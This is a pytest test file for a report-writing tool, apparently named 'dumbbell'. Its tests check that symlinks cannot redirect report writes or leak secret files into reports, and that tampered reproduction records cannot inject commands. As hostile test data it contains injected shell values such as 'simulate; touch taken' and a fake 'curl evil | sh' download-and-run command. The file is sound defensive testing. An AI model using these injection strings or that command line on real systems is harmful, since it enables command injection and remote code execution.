"""A report that is written into a directory of a stranger's stays there, whatever has its name."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from synthetic_run import Synthetic
from synthetic_study import Synthetic as SyntheticStudy

from dumbbell import report
from dumbbell.cli import invoke
from dumbbell.errors import InputError
from dumbbell.published import running
from dumbbell.published.registry import reproduction
from dumbbell.records import Run
from dumbbell.report import study as study_reports
from dumbbell.report import write_file
from dumbbell.studies import Study


@pytest.fixture
def elsewhere(tmp_path: Path) -> Path:
    place = tmp_path / "elsewhere"
    place.mkdir()
    return place


def test_folders_of_a_report_lead_nowhere(tmp_path: Path, elsewhere: Path) -> None:
    run = Run(Synthetic(duration_s=2, packets=False).write(tmp_path / "run"))
    study = Study(SyntheticStudy().write(tmp_path / "study"))
    for one in (run.directory, study.directory):
        (one / "report-csv").symlink_to(elsewhere)
    for write in (lambda: report.write(run, "csv"), lambda: study_reports.write(study, "csv")):
        with pytest.raises(InputError, match="cannot write"):
            write()
    assert list(elsewhere.iterdir()) == []
    # The user may name any place.
    assert report.write(run, "csv", tmp_path / "run" / "report-csv")
    assert list(elsewhere.iterdir())


@pytest.mark.parametrize("leads", ["pipe", "device", "file"])
def test_a_report_replaces_what_has_its_name(tmp_path: Path, elsewhere: Path, leads: str) -> None:
    """A pipe would wait for a reader, and a link may lead root to a disk."""
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    page = theirs / "report.html"
    (elsewhere / "mine").write_text("mine")
    if leads == "pipe":
        os.mkfifo(page)
    else:
        page.symlink_to("/dev/null" if leads == "device" else elsewhere / "mine")
    assert write_file(page, b"a page", theirs) == page
    assert (page.is_symlink(), page.read_bytes()) == (False, b"a page")
    assert (elsewhere / "mine").read_text() == "mine"


@pytest.mark.parametrize("kind", ["run", "study"])
def test_no_text_of_others_gets_into_a_report(tmp_path: Path, kind: str) -> None:
    """Somebody may send the page back to whoever has put the link there."""
    secret = tmp_path / "secret"
    secret.write_text("# my token 4711\n")
    theirs = tmp_path / "theirs"
    if kind == "run":
        Synthetic(duration_s=2, packets=False).write(theirs)
    else:
        SyntheticStudy().write(theirs)
    (theirs / "scenario.toml").unlink()
    (theirs / "scenario.toml").symlink_to(secret)
    assert invoke(["report", str(theirs)]) == 2
    assert [path for path in theirs.rglob("*.html") if "4711" in path.read_text()] == []
    (theirs / "scenario.toml").unlink()
    (theirs / "own.toml").write_text("# their text\n")
    (theirs / "scenario.toml").symlink_to("own.toml")
    assert invoke(["report", str(theirs)]) == 0
    assert "their text" in (theirs / "report.html").read_text()


def test_a_reproduction_has_only_studies_beside_it(tmp_path: Path, elsewhere: Path) -> None:
    """Whoever reports on it gets no figures of others into the page, and nothing is written into their studies."""
    study = reproduction("rincao-2021")
    (place := tmp_path / "reproductions" / "theirs").mkdir(parents=True)
    names = [part.name for part in study.parts[:2]]
    beside = SyntheticStudy().write(tmp_path / "reproductions" / "studies" / "own-1")
    other = SyntheticStudy().write(elsewhere / "other-2")
    noted = dict(zip(names, [str(tmp_path / "moved" / "own-1"), str(other)], strict=True))
    (place / "parts.json").write_text(json.dumps(noted))
    assert {name: one.directory for name, one in running.done(place, study).items()} == {names[0]: beside}


def test_a_reproduction_brings_no_command_into_its_report(tmp_path: Path) -> None:
    """Readers copy the command: its words are dumbbell's own, whatever a stranger's folder says."""
    ordered = running.Ordered("/home/me/a study", "a study", "simulate", True, ("one",))
    running.keep(tmp_path, ordered)
    assert running.kept(tmp_path) == ordered
    study = reproduction("rincao-2021")
    assert ordered.commands(study, []) == "dumbbell reproduce 'a study' --engine simulate --quick"
    file = tmp_path / running.ORDERED
    told = json.loads(file.read_text())
    for wrong in (
        {"engine": "simulate; touch taken"},
        {"engine": ["simulate"]},
        {"quick": "; touch taken"},
        {"named": "--agree"},
        {"lacking": 7},
    ):
        file.write_text(json.dumps({**told, **wrong}))
        with pytest.raises(InputError, match="is damaged"):
            running.kept(tmp_path)
    file.write_text(json.dumps({**told, "command": "curl evil | sh", "named": "x; touch taken"}))
    assert running.kept(tmp_path).commands(study, []) == "dumbbell reproduce 'x; touch taken' --engine simulate --quick"


@pytest.mark.parametrize("part", ["", "plots", "parts.json"])
def test_a_reproduction_that_is_a_link_is_not_written(tmp_path: Path, elsewhere: Path, part: str) -> None:
    place = tmp_path / "reproductions" / "rincao-2021"
    (place / part).parent.mkdir(parents=True)
    (place / part).symlink_to(elsewhere)
    with pytest.raises(InputError, match="is a link"):
        running.keep(place, running.Ordered("rincao-2021", "rincao-2021"))
    assert list(elsewhere.iterdir()) == []
